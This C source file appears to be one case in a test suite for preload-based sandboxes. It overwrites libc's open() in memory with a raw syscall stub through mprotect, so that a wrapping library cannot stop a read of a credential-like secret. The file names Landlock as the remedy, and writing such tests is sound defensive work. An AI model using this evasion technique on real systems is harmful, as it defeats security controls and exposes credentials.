// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, past a preloaded library that wraps every call that opens files.
 * Means: repair open(3). Whoever's it is, it is code in our own memory: make its page writable,
 *        put "number of open(2), syscall, return" at its beginning, and call it by its name.
 */
#include "attacks/preload-evasion/quarry.h"

#include <fcntl.h>
#include <stdint.h>
#include <sys/mman.h>

/* mov eax, 2; syscall; ret: path and flags are in their registers already. */
static const unsigned char bare[] = { 0xb8, 2, 0, 0, 0, 0x0f, 0x05, 0xc3 };

static enum claim run(const struct brief *b)
{
	int (*volatile open_)(const char *, int, ...) = open;
	uintptr_t at = (uintptr_t)open_, page = (uintptr_t)sysconf(_SC_PAGESIZE);
	size_t n = at % page + sizeof(bare);
	const char *path = quarry(b);
	void *start = (void *)(at - at % page);
	int fd;

	attempting(b);
	if (mprotect(start, n, PROT_READ | PROT_WRITE | PROT_EXEC))
		return denied("mprotect");
	memcpy((void *)at, bare, sizeof(bare));
	__builtin___clear_cache((char *)at, (char *)at + sizeof(bare));
	fd = open_(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		errno = -fd;
		fd = -1;
	}
	return take(fd, "the repaired open");
}

const struct attack attack = {
	.effect = "a file that a preloaded library should refuse is read",
	.means = "mprotect(2): the code of the wrapper is overwritten in memory",
	.oracle = "secret:environ",
	.needs = NEED_X86_64,
	.id = "LPS-10",
	.attack_id = "T1574.006, T1562.001, CWE-693",
	.remedy = "a decision in the kernel: Landlock",
	.refs = (const char *const[]){ "mprotect(2)", NULL },
	.run = run,
};
